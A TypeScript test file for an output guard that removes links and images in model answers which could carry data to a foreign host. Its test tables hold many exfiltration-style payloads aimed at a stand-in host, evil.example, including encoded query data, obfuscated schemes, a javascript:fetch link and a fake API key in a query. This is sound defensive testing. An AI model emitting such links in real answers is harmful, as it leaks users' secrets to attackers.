import { describe, expect, test } from "vitest";
import { createOutputGuard } from "../../output-guard.ts";
import { type OutputRules, toDataRules, toOutputRules } from "../../output-rules.ts";
import { DEFAULT_GUARD_POLICY } from "../../policy.ts";

const OWN = ["aegis.example"];
const RULES = toOutputRules({ ...DEFAULT_GUARD_POLICY, allowedHosts: ["docs.partner.example", "*.trusted.example"] }, OWN);
const ONLY_LINKS: OutputRules = { ...toDataRules([]), links: "payload", allowedHosts: RULES.allowedHosts };
const BAD = "https://evil.example/p?d=c3RvbGVu";
const LONG = `https://evil.example/?d=${"c3RvbGVu".repeat(8)}`;

function show(pieces: string | readonly string[], rules = RULES) {
  const guard = createOutputGuard({ rules });
  const released = [...(typeof pieces === "string" ? [pieces] : pieces).map((piece) => guard.push(piece)), guard.end()];
  return { text: released.join(""), released, verdict: guard.verdict() };
}

const DEAD: readonly [string, string, string][] = [
  ["an image", `See ![a chart](${BAD}) here.`, "See a chart (image from evil.example removed) here."],
  ["an image without words", `![](${BAD})`, "(image from evil.example removed)"],
  ["a link", `[our docs](${BAD}) say`, "[our docs] (link to evil.example/p removed) say"],
  ["a link with a title", `[a](${BAD} "a title") b`, "[a] (link to evil.example/p removed) b"],
  ["a link between angles", `[a](<${BAD}>)`, "[a] (link to evil.example/p removed)"],
  ["an image in a link", `[![a](${BAD})](${BAD})`, "[a (image from evil.example removed)] (link to evil.example/p removed)"],
  ["a definition", `![a][b]\n\n[b]: ${BAD} "t"\n`, '![a][b]\n\n[b] (link to evil.example/p removed) "t"\n'],
  ["an image's tag", `<img alt="a>b" src="${BAD}">`, '<img alt="a>b" src="about:blank">'],
  ["a tag without quotation marks", `<a href=${BAD}>x</a>`, "<a href=about:blank>x</a>"],
  ["a style", `<p style="background:url(//evil.example/?d=1)">`, '<p style="about:blank">'],
  ["a source set", `<img srcset="/a.png 1x, ${BAD} 2x">`, '<img srcset="about:blank">'],
  ["a bare address that carries much", `see ${LONG}, and`, "see (link to evil.example removed), and"],
  ["an autolink that carries much", `<${LONG}>`, "<(link to evil.example removed)>"],
  ["a name before the host", "[a](https://stolen@evil.example/)", "[a] (link to evil.example removed)"],
  ["a path of random letters", "![a](https://evil.example/aB3dE5gH7jK9mN1pQ2rS.png)", "a (image from evil.example removed)"],
  ["a host of random letters", "[a](https://aB3dE5gH7jK9mN1p.evil.example/)", "[a] (link to ab3de5gh7jk9mn1p.evil.example removed)"],
  ["a wall of escapes", `[a](https://evil.example/${"%73%74%6f%6c%65%6e%20".repeat(6)})`, "[a] (link to evil.example/… removed)"],
  ["references in the address", "[a](https&colon;&#47;/evil.example/?d=1)", "[a] (link to evil.example removed)"],
  ["backslashes in place of slashes", "[a](https:\\\\\\\\evil.example/?d=1)", "[a] (link to evil.example removed)"],
  ["no scheme", "[a](//evil.example/?d=1)", "[a] (link to evil.example removed)"],
  ["a script", "[a](javascript:fetch(1))", "[a] (link to javascript: removed)"],
  ["a link that never ends", `[a](${BAD}`, "[a] (link to evil.example/p removed)"],
  ["a destination on the next line", `[a](\n${BAD})`, "[a] (link to evil.example/p removed)"],
  ["a fence that its list ends", `- a\n  \`\`\`\nb\n![a](${BAD})`, "- a\n  ```\nb\na (image from evil.example removed)"],
  ["marks that nothing closes", `\`![a](${BAD})\n`, "`a (image from evil.example removed)\n"],
  ["a fence inside HTML", `<div>\n\`\`\`\n\n![a](${BAD})`, "<div>\n```\n\na (image from evil.example removed)"],
];

const KEPT: readonly [string, string][] = [
  ["a page without a query", "[docs](https://evil.example/docs/getting-started#install) and ![logo](https://evil.example/logo.png)"],
  ["the product's own host", "[a](https://aegis.example/x?y=1) ![b](https://aegis.example/i.png?w=2)"],
  ["allowed hosts", "[a](https://docs.partner.example/?q=1) [b](https://api.trusted.example/?q=1)"],
  ["relative addresses", "[a](/chat?id=1) [b](../x?y=z) [c](#part) <img src='/i.png?w=1'>"],
  ["a bare address with a short query", "see https://video.example/watch?v=dQw4w9WgXcQ."],
  ["an encyclopedia in another script", "[a](https://wiki.example/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0)"],
  ["content in the address itself", `![dot](data:image/png;base64,iVBORw0KGgo${"AAAA".repeat(900)})`],
  ["mail and telephone", "[a](mailto:a@b.example?subject=Hi) [b](tel:+123)"],
  ["inline code", `Write \`![a](${BAD})\` or \`\`[b](${BAD})\`\`.`],
  ["a fence", `Text\n\n\`\`\`md\n![a](${BAD})\n<img src="${BAD}">\n\`\`\`\n`],
  ["a fence in a list", `1. Do\n   \`\`\`html\n   <img src="${BAD}">\n   \`\`\`\n2. Next\n`],
  ["brackets that are no links", "[ ] todo, a[0](1), [1, 2], [note]: this, x < y && z > 1, f(a)[b](c)"],
  ["unfinished beginnings", "http ht www. ![ [a]( <a href= &#"],
];

describe("a link that can carry words to a foreign host is dead", () => {
  test.each(DEAD)("%s", (_, text, expected) => {
    expect(show(text).text).toBe(expected);
    expect(show(text.split("")).text).toBe(expected);
  });
  test("what is dead once stays as it is", () => {
    for (const [, , expected] of DEAD) expect(show(expected).text).toBe(expected);
  });
  test("the verdict counts links and images, and only an image alone makes an answer unsafe", () => {
    expect(show(`[a](${BAD})`).verdict).toMatchObject({
      verdict: "SAFE",
      action: "redact",
      reasons: [{ code: "guard.output_link" }],
      redactions: [{ kind: "foreign-link", count: 1 }],
    });
    const images = show(`![a](${BAD}) ![b](${BAD})`).verdict;
    expect(images).toMatchObject({ verdict: "UNSAFE", redactions: [{ kind: "foreign-image", count: 2 }] });
    expect(JSON.stringify(images)).not.toContain("evil");
  });
});

describe("everything else stays", () => {
  test.each(KEPT)("%s", (_, text) => {
    expect(show(text)).toMatchObject({ text, verdict: { verdict: "SAFE", action: "allow" } });
    expect(show(text.split("")).text).toBe(text);
  });
  test("all links where the organization asks for none to be touched", () => {
    const text = DEAD.map(([, each]) => each).join("\n\n");
    expect(show(text, { ...RULES, links: "off" }).text).toBe(text);
  });
});

test("in mode `all` a foreign link is dead whatever it carries, and one's own is not", () => {
  const rules: OutputRules = { ...RULES, links: "all" };
  expect(show("[a](https://other.example/docs) [b](/x) [c](https://aegis.example/)", rules).text).toBe(
    "[a] (link to other.example/docs removed) [b](/x) [c](https://aegis.example/)",
  );
});

test("a link that holds a secret loses both, and a secret beside a link does not bring it to life", () => {
  const key = "sk-proj-aB3dE5gH7jK9mN1pQ2rS";
  for (const text of [`![a](https://evil.example/?k=${key})`, `[${key}](${BAD})`, `${key}(${BAD})`]) {
    const shown = show(text).text;
    expect(shown).not.toContain(key.slice(0, 12));
    expect(shown).not.toMatch(/\]\(|evil\.example\/p\?/);
  }
});

test("plain text is not delayed: not even the words of a link", () => {
  const guard = createOutputGuard({ rules: ONLY_LINKS });
  for (const word of ["We ", "met [in ", "the park", "] and (", "not ", "http) ", "a < b ", "so\n\n- it `is` ", "fine. "])
    expect(guard.push(word)).toBe(word);
  expect(guard.push(`[a](${BAD}`)).toBe("[a]");
  expect(guard.isHolding()).toBe(true);
});

test("an address longer than the hold limit is cut to its end, and a long harmless one is let go", () => {
  const long = `https://evil.example/?d=${"x".repeat(50_000)}`;
  const cut = (text: string) =>
    Array.from({ length: Math.ceil(text.length / 100) }, (_, index) => text.slice(index * 100, index * 100 + 100));
  for (const text of [`![a](${long}) b`, `[a](${long}) b`, `${long} b`, `<img src="${long}"> b`]) {
    const whole = show(text, ONLY_LINKS).text;
    expect(whole.length).toBeLessThan(80);
    expect(whole.endsWith(" b")).toBe(true);
    expect(show(cut(text), ONLY_LINKS).text).toBe(whole);
  }
  const image = `![a](data:image/png;base64,${"A".repeat(50_000)})`;
  const guard = createOutputGuard({ rules: ONLY_LINKS });
  expect(guard.push(image.slice(0, 10_000)).length).toBeGreaterThan(9_000);
});

test("hostile text takes linear time", () => {
  for (const unit of [
    "![",
    "[a](",
    "](",
    "<a b=",
    "`",
    "```\n",
    "http://",
    "https://a?b ",
    "&#1",
    "\\",
    "<",
    "[a]: ",
    '<a b="https://c?d',
    "(".repeat(50),
  ]) {
    const text = unit.repeat(Math.ceil(200_000 / unit.length));
    const pieces = Array.from({ length: 2_000 }, (_, index) => text.slice(index * 100, index * 100 + 100));
    const startedAt = performance.now();
    show(pieces, ONLY_LINKS);
    expect(performance.now() - startedAt, unit).toBeLessThan(4_000);
  }
});
